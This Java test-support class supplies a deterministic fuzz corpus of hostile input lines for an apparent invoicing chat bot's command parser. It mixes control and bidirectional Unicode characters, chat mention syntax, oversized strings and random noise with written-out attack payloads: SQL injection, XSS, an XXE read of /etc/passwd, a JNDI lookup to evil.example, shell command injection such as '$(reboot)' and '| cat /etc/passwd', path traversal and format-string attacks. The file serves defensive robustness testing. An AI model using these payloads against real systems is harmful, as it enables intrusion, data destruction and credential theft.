package io.tillbot.core.support;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Random;
import java.util.Set;

/**
 * Lines that nobody means well by, or that a chat client, a clipboard or a cat makes. The same on
 * every run. Some are good commands with something nasty in a value; none may bring an exception,
 * and whatever is shown of them must be short and harmless.
 */
public final class HostileLines {
  private static final int KILOBYTE = 1_000;

  /** What is put before, into and after a good command. */
  private static final List<String> NASTY =
      List.of(
          "\u0000",
          "\u0007",
          "\b\b\b",
          "\u001B[31m",
          "\u001B]0;owned\u0007",
          "\u009B2J",
          "\r\n",
          "\n/billing status",
          "\t",
          "\u0085",
          "\u2028",
          "\u2029",
          "\u202Egnp.exe",
          "\u202A\u202B\u202D",
          "\u2066\u2067\u2068\u2069",
          "\u200B",
          "\u200C\u200D",
          "\u2060",
          "\uFEFF",
          "\u00AD",
          "\u061C",
          "\u180E",
          "\u034F",
          "\u3164",
          "\u115F",
          "\uFFA0",
          "\u2800",
          "\uFE0F",
          "\uDB40\uDC41\uDB40\uDC42\uDB40\uDC7F",
          "\uDB40\uDD00",
          "\uD800",
          "\uDC00",
          "\uDC00\uD800",
          "\uE000",
          "\uFFFE",
          "\uFFFF",
          "\uFFFD",
          "\u0661\u0662\u0663",
          "\u06F1\u06F2\u06F3",
          "\u0967\u0968\u0969",
          "\uFF11\uFF12\uFF13",
          "\uD835\uDFCF\uD835\uDFD0",
          "\u0E51\u0E52",
          "\u00B2\u00B3",
          "\u2167",
          "\u4E00\u4E8C",
          "1\u20E3",
          "Z\u0351\u0352\u0357\u035B\u0303\u0300\u0316\u0317",
          "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
          "\uD83C\uDFF4\u200D\u2620\uFE0F",
          "\u05E9\u05DC\u05D5\u05DD",
          "\u0645\u0631\u062D\u0628\u0627",
          "' OR '1'='1",
          "'; DROP TABLE credentials; --",
          "1; SELECT * FROM sealed",
          "1 UNION SELECT password",
          "\\'; --",
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "<a href=\"javascript:x\">y</a>",
          "</code></pre><b>",
          "<!--",
          "]]>",
          "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
          "*bold* _it_ ~no~ `code` ```block```",
          "[click](https://evil.example)",
          "![x](https://evil.example/p.png)",
          "> quote",
          "||spoiler||",
          "<!channel>",
          "<!here|here>",
          "<!everyone>",
          "<!subteam^S1>",
          "<@U1>",
          "<@!1234>",
          "<@&1234>",
          "<#C1|general>",
          "<#1234>",
          "<t:0:R>",
          "</invoice:1234>",
          "@everyone",
          "@here",
          "<mailto:a@b.example|a@b.example>",
          "<https://evil.example|https://good.example>",
          "<tel:+1|+1>",
          "<https://|>",
          "<|>",
          "<>",
          "&lt;!channel&gt;",
          "&amp;lt;!channel&amp;gt;",
          "&amp;amp;amp;amp;",
          "&#0;",
          "&#x202E;",
          "&bogus;",
          "&",
          "%n%n%n",
          "%s%s%s%s",
          "%1$999999999s",
          "%",
          "{0} {1} {2}",
          "{0,number,#}",
          "'{0}'",
          "${jndi:ldap://evil.example/a}",
          "${env:HOME}",
          "#{7*7}",
          "{{7*7}}",
          "$(reboot)",
          "`reboot`",
          "; reboot",
          "| cat /etc/passwd",
          "&& reboot",
          "> /etc/passwd",
          "../../../etc/passwd",
          "..\\..\\windows\\system32",
          "%2e%2e%2f",
          "%00",
          "file:///etc/passwd",
          "C:\\con",
          "\"",
          "\"\"",
          "\"\"\"",
          "\"open",
          "\u201Copen",
          "\u00ABopen",
          "'",
          "\\",
          "\\\"",
          "\"\\",
          "\"\\\"",
          "\\\\\\\\",
          "--",
          "---",
          "--=",
          "--=1",
          "--no-pdf=",
          "--no-pdf=\u202E",
          "--\u202Eno-pdf",
          "--id",
          "--id=",
          "--id=--id",
          "--nope",
          "--nope=\"",
          "\u2014\u2014no-pdf",
          "\u2014",
          "-",
          "-1",
          "+1",
          "1e3",
          "0x10",
          "1_000",
          "1,234",
          "1.234,56",
          "1/0",
          "NaN",
          "Infinity",
          "-0",
          "00000000000000000000000000001",
          "9223372036854775807",
          "9223372036854775808",
          "99999999999999999999999999",
          "null",
          "undefined",
          "true",
          "[]",
          "{\"a\":1}",
          "INV-",
          "#",
          "##1",
          "#INV-INV-1",
          "\u0130NV-1",
          "\u017F");

  private HostileLines() {}

  /** The lines, several hundred, each once. */
  public static List<String> all() {
    Set<String> lines = new LinkedHashSet<>();
    for (String nasty : NASTY) {
      lines.add(nasty);
      lines.add("/invoice " + nasty);
      lines.add("/invoice 123" + nasty);
      lines.add("/invoices " + nasty);
      lines.add("/billing help " + nasty);
      lines.add("/transactions --invoice " + nasty);
      lines.add("/" + nasty + " 123");
    }
    lines.addAll(odd());
    lines.addAll(huge());
    lines.addAll(noise(new Random(20_261_123)));
    return List.copyOf(lines);
  }

  private static List<String> odd() {
    return List.of(
        "",
        " ",
        "/",
        "//",
        "////invoice 1",
        "/ invoice 1",
        "/invoice",
        "/invoice 1 2 3",
        "/invoice \"1\" \"",
        "/invoice --id 1 --id 2",
        "/invoice 1 --location ../../x",
        "/invoice 1 --location \"<!channel>\"",
        "/invoice 1 --location=" + "\u202E",
        "/invoices overdue overdue",
        "/billing billing billing billing help",
        "/billing /billing /billing",
        "/billing help billing help billing help",
        "/billing \"\"",
        "/billing link hunter2-is-not-a-secret",
        "/server \"\" \"\"",
        "/server show show",
        "/SERVER SHOW \uFF14\uFF12",
        "\uFF0Finvoice 123",
        "\u2044invoice 123",
        "/\u0456nvoice 123",
        "/invo\u0131ce 123",
        "/credit \u0000");
  }

  private static List<String> huge() {
    List<String> lines = new ArrayList<>();
    for (String piece :
        List.of(
            "a",
            "9",
            "\u0661",
            "\"",
            "\\",
            " ",
            "\u202E",
            "\u200B",
            "\u0301",
            "<",
            "&amp;",
            "--a ",
            "--no-pdf ",
            "1 ",
            "\uD83D\uDE00",
            "\uD83D",
            "<mailto:",
            "<#C1|",
            "\u2014",
            "/",
            "=")) {
      lines.add("/invoice " + piece.repeat(KILOBYTE / piece.length()));
      lines.add("/invoice " + piece.repeat(3_900 / piece.length()));
      lines.add("/invoice " + piece.repeat(10 * KILOBYTE));
      lines.add(piece.repeat(3_900 / piece.length()));
    }
    lines.add("/invoice " + "1".repeat(KILOBYTE * KILOBYTE));
    lines.add("\u202E".repeat(KILOBYTE * KILOBYTE));
    lines.add("\"".repeat(KILOBYTE * KILOBYTE));
    lines.add("--x ".repeat(KILOBYTE * KILOBYTE / 4));
    return lines;
  }

  /** Words of the catalogue and of everything else, shaken. */
  private static List<String> noise(Random random) {
    List<String> words =
        new ArrayList<>(
            List.of("/invoice", "invoices", "/billing", "server", "show", "help", "--server", "1"));
    words.addAll(NASTY);
    List<String> lines = new ArrayList<>();
    for (int i = 0; i < 200; i++) {
      StringBuilder line = new StringBuilder();
      for (int j = random.nextInt(1, 12); j > 0; j--) {
        line.append(words.get(random.nextInt(words.size())))
            .append(random.nextBoolean() ? " " : "");
      }
      lines.add(line.toString());
    }
    for (int i = 0; i < 100; i++) {
      StringBuilder line = new StringBuilder("/invoice ");
      for (int j = random.nextInt(1, 40); j > 0; j--) {
        line.append((char) random.nextInt(Character.MAX_VALUE + 1));
      }
      lines.add(line.toString());
    }
    return lines;
  }
}
